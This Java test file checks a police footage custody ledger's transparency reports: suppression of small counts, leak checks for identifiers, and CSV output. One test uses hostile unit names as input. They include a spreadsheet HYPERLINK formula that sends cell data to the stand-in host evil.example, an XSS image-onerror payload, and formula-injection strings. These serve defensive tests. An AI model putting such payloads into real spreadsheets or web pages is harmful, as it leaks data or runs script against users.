package org.custodyledger.report;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.custodyledger.TestKeys;
import org.custodyledger.custody.CanonicalJson;
import org.custodyledger.custody.CustodyEvent;
import org.custodyledger.custody.EventSigner;
import org.custodyledger.custody.EventType;
import org.custodyledger.hash.Sha256Digest;
import org.junit.jupiter.api.Test;

/** The report fold, suppression, JSON and CSV, on signed leaves made here. */
class TransparencyReportTest {
    private static final EventSigner EVENTS = new EventSigner(TestKeys.sampleSigner());
    private static final Instant Q3 = Instant.parse("2026-07-10T10:00:00Z");
    private static final String FOOTAGE = "f-distinctivefootage0000000000000001";
    private static final String COMPLAINT = "c-0123456789abcdef0123456789abcdef";
    private static final String INCIDENT = "INC-DISTINCTIVE-4711";
    private static final String PERSON = "officer-distinctive-4711";

    private final List<byte[]> leaves = new ArrayList<>();

    private void add(CustodyEvent e) {
        leaves.add(EVENTS.sign(e).leafBytes());
    }

    private CustodyEvent footage(EventType type, String role, String unit, Instant t, Map<String, String> details) {
        return CustodyEvent.of(FOOTAGE, Sha256Digest.of(new byte[32]), type, PERSON, role, t, "purpose", null, details)
                .withUnit(unit);
    }

    private void views(int n, String role, String unit) {
        for (int i = 0; i < n; i++) {
            add(footage(EventType.VIEWED, role, unit, Q3.plusSeconds(leaves.size()), Map.of()));
        }
    }

    private TransparencyReport report(Period p, int threshold) throws Exception {
        ReportFold fold = new ReportFold(p);
        for (byte[] leaf : leaves) {
            fold.accept(leaf);
        }
        return TransparencyReport.of(fold, threshold, true, new TransparencyReport.Cited(leaves.size(), fold.root(), "note"));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> json(TransparencyReport r) throws Exception {
        return (Map<String, Object>) CanonicalJson.parse(r.json());
    }

    @SuppressWarnings("unchecked")
    private static Object at(Map<String, Object> m, String path) {
        Object v = m;
        for (String part : path.split("\\.")) {
            v = ((Map<String, Object>) v).get(part);
        }
        return v;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> unit(Map<String, Object> report, String name) {
        return ((List<Map<String, Object>>) report.get("units")).stream().filter(u -> name.equals(u.get("unit"))).findFirst()
                .orElseThrow();
    }

    @Test
    void periodsParseToUtcBounds() {
        Period q = Period.parse("2026-Q3");
        assertEquals(Instant.parse("2026-07-01T00:00:00Z"), q.start());
        assertEquals(Instant.parse("2026-10-01T00:00:00Z"), q.end());
        Period m = Period.parse("2026-12");
        assertEquals(Instant.parse("2027-01-01T00:00:00Z"), m.end());
        for (String bad : new String[] {"2026-Q5", "2026-13", "2026-Q0", "26-Q1", "2026-07-01", "", "2026-q3"}) {
            assertThrows(IllegalArgumentException.class, () -> Period.parse(bad), bad);
        }
        List<Period> listed = Period.between(Instant.parse("2026-08-15T00:00:00Z"), Instant.parse("2026-11-02T00:00:00Z"));
        assertEquals(List.of("2026-Q4", "2026-Q3", "2026-11", "2026-10", "2026-09", "2026-08"),
                listed.stream().map(Period::id).toList());
    }

    @Test
    void countsByUnitAndRoleWithRegistrationFigures() throws Exception {
        Map<String, String> reg = new HashMap<>(Map.of("held", "true", "durationMs", "150000", "incident", INCIDENT,
                "recordedAt", "2026-07-10T09:00:00.000Z", "filename", "x.mp4"));
        for (int i = 0; i < 6; i++) {
            add(footage(EventType.REGISTERED, "officer", "Central", Q3.plusSeconds(i), reg));
        }
        views(7, "reviewer", "Central");
        views(5, "officer", "Central");
        views(2, "reviewer", "Tiny");
        add(footage(EventType.VIEWED, "reviewer", null, Instant.parse("2026-06-30T23:59:59.999Z"), Map.of())); // before Q3
        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
        assertEquals(6L, at(r, "agency.footageRegistered.total"));
        assertEquals(6L, at(r, "agency.footageRegistered.uploaded"));
        assertEquals(0L, at(r, "agency.footageRegistered.hashOnly"));
        assertEquals(15L, at(r, "agency.footageMinutes"));       // 6 × 2.5 min
        assertEquals(60L, at(r, "agency.registrationDelayMinutes.median"));
        assertEquals(14L, at(r, "agency.events.VIEWED.total"));
        Map<String, Object> central = unit(r, "Central");
        assertEquals(5L, at(central, "events.VIEWED.byRole.officer"));
        // Across units: the agency's 9 reviewer views minus Central's 7 would reveal other's hidden 2.
        assertEquals(9L, at(r, "agency.events.VIEWED.byRole.reviewer"));
        assertEquals("suppressed", at(central, "events.VIEWED.byRole.reviewer"));
        // Tiny had 2 events: folded into "other", which then shows them suppressed.
        assertEquals("suppressed", at(unit(r, "other"), "events.VIEWED.total"));
        assertFalse(new String(report(Period.parse("2026-Q3"), 5).json(), StandardCharsets.UTF_8).contains("Tiny"));
        assertEquals(0L, at(unit(r, "unknown"), "events.VIEWED.total"));
    }

    @Test
    void smallCountsAndTheirComplementsAreSuppressed() throws Exception {
        views(7, "reviewer", "Central");
        views(3, "officer", "Central");   // 3 < 5: hidden; 10 − 7 would reveal it, so 7 goes too
        Map<String, Object> central = unit(json(report(Period.parse("2026-Q3"), 5)), "Central");
        assertEquals(10L, at(central, "events.VIEWED.total"));
        assertEquals("suppressed", at(central, "events.VIEWED.byRole.officer"));
        assertEquals("suppressed", at(central, "events.VIEWED.byRole.reviewer"));
    }

    @Test
    void aTotalHiddenByTheAgencySumIsNotRecoveredFromItsOwnBreakdown() throws Exception {
        views(5, "officer", "Alpha");
        views(3, "reviewer", "Bravo");    // folded into other: 3 hidden, so the agency's 8 and Alpha's 5 are not both shown
        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
        Map<String, Object> alpha = unit(r, "Alpha");
        assertEquals("suppressed", at(unit(r, "other"), "events.VIEWED.total"));
        assertEquals("suppressed", at(r, "agency.events.VIEWED.byRole.reviewer"));
        // Alpha's only role is its total again: 8 − either of them would give other's 3.
        boolean agencyShown = at(r, "agency.events.VIEWED.total") instanceof Long;
        assertFalse(agencyShown && at(alpha, "events.VIEWED.total") instanceof Long);
        assertFalse(agencyShown && at(alpha, "events.VIEWED.byRole.officer") instanceof Long);
        assertFalse(agencyShown && at(r, "agency.events.VIEWED.byRole.officer") instanceof Long);
        assertEquals(0L, at(alpha, "footageRegistered.total"));   // a zero is never "suppressed"
    }

    @Test
    void unitNamesThatAreNotNamesOfUnitsAreCountedUnderOther() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        String multiLine = "Central\nSgt Jane Doe badge 4711";
        String markup = "<img src=x onerror=alert(1)>";
        String long49 = "N".repeat(49);
        for (String u : List.of(formula, multiLine, markup, long49, "-2+3", "@SUM(A1)")) {
            views(5, "reviewer", u);
        }
        views(5, "reviewer", "North, \"East\" (2)");
        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
        @SuppressWarnings("unchecked")
        List<String> names = ((List<Map<String, Object>>) r.get("units")).stream().map(u -> (String) u.get("unit")).toList();
        assertEquals(List.of("North, \"East\" (2)", "other", "unknown"), names);
        assertEquals(30L, at(unit(r, "other"), "events.VIEWED.total"));
    }

    @Test
    void csvFieldsASpreadsheetWouldRunAsFormulasAreNeutralised() {
        assertEquals("\"'=1+2\"", ReportCsv.field("=1+2"));
        assertEquals("\"'+1\"", ReportCsv.field("+1"));
        assertEquals("\"'-1\"", ReportCsv.field("-1"));
        assertEquals("\"'@SUM(A1)\"", ReportCsv.field("@SUM(A1)"));
        assertEquals("\"'\tx\"", ReportCsv.field("\tx"));
        assertEquals("\"'\rx\"", ReportCsv.field("\rx"));
        assertEquals("\"'=HYPERLINK(\"\"x\"\")\"", ReportCsv.field("=HYPERLINK(\"x\")"));
        assertEquals("unit:Central", ReportCsv.field("unit:Central"));
        assertEquals("12", ReportCsv.field("12"));
    }

    @Test
    void withoutComplementarySuppressionTheThresholdAloneHidesOnlySmallCells() throws Exception {
        views(7, "reviewer", "Central");
        views(5, "officer", "Central");
        Map<String, Object> central = unit(json(report(Period.parse("2026-Q3"), 5)), "Central");
        assertEquals(5L, at(central, "events.VIEWED.byRole.officer"));
        assertEquals(7L, at(central, "events.VIEWED.byRole.reviewer"));
        Map<String, Object> lower = unit(json(report(Period.parse("2026-Q3"), 6)), "Central");
        assertEquals("suppressed", at(lower, "events.VIEWED.byRole.officer"));
        assertEquals("suppressed", at(lower, "events.VIEWED.byRole.reviewer"));
    }

    @Test
    void noIdentifierReachesTheReport() throws Exception {
        add(footage(EventType.REGISTERED, "officer", "Central", Q3, Map.of("incident", INCIDENT, "filename", "secret-name.mp4")));
        add(footage(EventType.HOLD_PLACED, "admin", "Central", Q3.plusSeconds(1), Map.of("holdId", "h-distinctivehold",
                "matter", COMPLAINT)));
        add(CustodyEvent.aboutComplaint(COMPLAINT, EventType.COMPLAINT_RECEIVED, "public", "public", Q3.plusSeconds(2),
                Map.of("category", "use-of-force", "commitment", "ab".repeat(32), "footageMatched", "1",
                        "dueBy", "2026-10-08T00:00:00.000Z")));
        views(6, "reviewer", "Central");
        TransparencyReport r = report(Period.parse("2026-Q3"), 5);
        for (byte[] out : new byte[][] {r.json(), r.csv()}) {
            String text = new String(out, StandardCharsets.UTF_8);
            for (String id : new String[] {FOOTAGE, COMPLAINT, INCIDENT, PERSON, "secret-name", "h-distinctivehold", "abab"}) {
                assertFalse(text.contains(id), id + " leaked");
            }
        }
        Map<String, Object> json = json(r);
        assertEquals("suppressed", at(json, "complaints.received"));
        assertEquals("suppressed", at(json, "agency.holds.openAtEnd"));
    }

    @Test
    void refusalsCountTheFirstEventOfADayOnly() throws Exception {
        add(CustodyEvent.aboutPeriod("2026-07-01", EventType.ACCESS_REFUSALS_COUNTED, "system", "system",
                Instant.parse("2026-07-02T00:00:01Z"), Map.of("401", "9", "401:footage", "9")));
        add(CustodyEvent.aboutPeriod("2026-07-01", EventType.ACCESS_REFUSALS_COUNTED, "system", "system",
                Instant.parse("2026-07-02T00:00:02Z"), Map.of("401", "100", "401:footage", "100")));
        add(CustodyEvent.aboutPeriod("2026-09-30", EventType.ACCESS_REFUSALS_COUNTED, "system", "system",
                Instant.parse("2026-10-01T00:00:01Z"), Map.of("403", "6", "403:cases", "6")));
        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
        assertEquals(15L, at(r, "accessRefusals.total"));
        assertEquals(9L, at(r, "accessRefusals.byStatus.401"));
        assertEquals(6L, at(r, "accessRefusals.byRouteGroup.cases"));
    }

    @Test
    void theSameLeavesGiveTheSameBytesAndCsvIsRfc4180() throws Exception {
        views(9, "reviewer", "North, \"East\"");
        TransparencyReport a = report(Period.parse("2026-Q3"), 5);
        TransparencyReport b = report(Period.parse("2026-Q3"), 5);
        assertArrayEquals(a.json(), b.json());
        assertArrayEquals(a.json(), CanonicalJson.encode(CanonicalJson.parse(a.json())));
        String csv = new String(a.csv(), StandardCharsets.UTF_8);
        assertTrue(csv.startsWith("scope,metric,value\r\n"));
        assertTrue(csv.contains("\"unit:North, \"\"East\"\"\",events.VIEWED.byRole.reviewer,9\r\n"), csv);
        assertTrue(csv.contains("report,period,2026-Q3\r\n"));
        assertEquals(csv, ReportCsv.of(a.json()));
    }

    @Test
    void theFoldStopsAtTheCutoffAndMarksThePeriodEnd() throws Exception {
        views(3, "reviewer", "Central");
        add(footage(EventType.VIEWED, "reviewer", "Central", Instant.parse("2026-10-01T00:00:00Z"), Map.of()));
        add(footage(EventType.VIEWED, "reviewer", "Central", Instant.parse("2026-10-02T00:00:00Z"), Map.of()));
        ReportFold fold = new ReportFold(Period.parse("2026-Q3"));
        for (byte[] leaf : leaves) {
            fold.accept(leaf);
        }
        assertEquals(3, fold.sizeAtPeriodEnd());
        assertEquals(4, fold.taken());
        assertTrue(fold.complete());
        assertEquals(5, fold.fed());
    }

    @Test
    void aProvisionalReportCountsWholeDaysOnly() throws Exception {
        Instant now = Instant.parse("2026-08-14T15:30:00Z");
        Instant today = TransparencyReport.startOfDay(now);
        for (int i = 0; i < 6; i++) {
            add(footage(EventType.VIEWED, "reviewer", "Central", today.minusSeconds(3600 - i), Map.of()));   // yesterday
        }
        Map<String, Object> before = json(provisional(today));
        add(footage(EventType.VIEWED, "reviewer", "Central", today.plusSeconds(60), Map.of()));             // today
        Map<String, Object> after = json(provisional(today));
        assertEquals(6L, at(before, "agency.events.VIEWED.total"));
        assertEquals(before, after, "an event of today changes nothing until the day is over");
        assertEquals("2026-08-14T00:00:00.000Z", after.get("countedBefore"));
        assertEquals("provisional", after.get("status"));
        assertEquals(6L, at(after, "ledgerAtPeriodEnd.size"));
        // Tomorrow, yesterday's event counts.
        assertEquals(7L, at(json(provisional(today.plusSeconds(86_400))), "agency.events.VIEWED.total"));
        assertFalse(json(report(Period.parse("2026-Q3"), 5)).containsKey("countedBefore"));
    }

    private TransparencyReport provisional(Instant countedBefore) throws Exception {
        ReportFold fold = new ReportFold(Period.parse("2026-Q3"), countedBefore);
        for (byte[] leaf : leaves) {
            fold.accept(leaf);
        }
        return TransparencyReport.of(fold, 5, false, new TransparencyReport.Cited(fold.taken(), new byte[32], "note"));
    }
}
